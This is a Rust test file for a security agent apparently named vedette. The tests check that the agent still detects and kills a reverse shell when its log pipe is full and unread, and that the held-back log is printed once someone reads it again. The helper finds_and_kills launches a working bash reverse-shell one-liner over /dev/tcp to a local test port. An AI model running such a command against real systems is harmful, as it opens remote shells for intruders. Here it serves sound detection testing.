//! Whoever reads the agent's log may stop, as a terminal that is paused: the agent goes on, and ends.

use rustix::{
    event::{PollFd, PollFlags, Timespec, poll},
    pipe::fcntl_setpipe_size,
};
use std::{
    io::{PipeReader, PipeWriter, Read, pipe},
    thread,
};
use vedette_tests::{
    agent::{Agent, Options},
    listener::Wire,
    need::Need,
    remote_shell::RemoteShell,
    require,
    tools::{Names, Place},
    workspace,
};

/// An agent with a talkative log that nobody reads, and which has room for next to nothing.
fn unread() -> (Agent, PipeReader) {
    let (reader, writer) = pipe().expect("a pipe");
    fcntl_setpipe_size(&writer, 4096).expect("a smaller pipe");
    let full = writer.try_clone().expect("a descriptor");
    let agent = Options::default()
        .enforcing()
        .variable("VEDETTE_LOG", "trace")
        .errors(writer)
        .start();
    assert!(!has_room(&full), "the log does not fill the pipe");
    (agent, reader)
}

fn has_room(pipe: &PipeWriter) -> bool {
    let mut ready = [PollFd::new(pipe, PollFlags::OUT)];
    poll(&mut ready, Some(&Timespec::default())).expect("a pipe can be polled");
    ready[0].revents().contains(PollFlags::OUT)
}

fn finds_and_kills(agent: &Agent) {
    let running = RemoteShell::start(Place::Host, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c 'exec {bash} -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0'")
    });
    let root = running.root();
    let finding = agent.expect("a reverse shell", |finding| {
        finding.ancestors().contains(&root)
    });
    assert!(finding.killed(), "it is spared: {}", finding.json);
}

#[test]
fn a_log_that_nobody_reads_stops_nothing() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let (agent, _unread) = unread();
    finds_and_kills(&agent);
    agent.stop();
}

#[test]
fn what_waited_is_printed_when_somebody_reads_again() {
    require!(Need::Agent, Need::Kernel);
    let _alone = workspace::alone();
    let (agent, mut reader) = unread();
    finds_and_kills(&agent);
    let reading = thread::spawn(move || {
        let mut text = String::new();
        reader.read_to_string(&mut text).map(|_| text)
    });
    agent.stop();
    let text = reading.join().expect("no panic").expect("it is text");
    for part in ["vedette is ready", r#"{"summary":"#] {
        assert!(text.contains(part), "{part} is missing: {text}");
    }
    let last = text.lines().last().unwrap_or_default();
    assert!(last.starts_with(r#"{"summary":"#), "it ends with {last}");
}
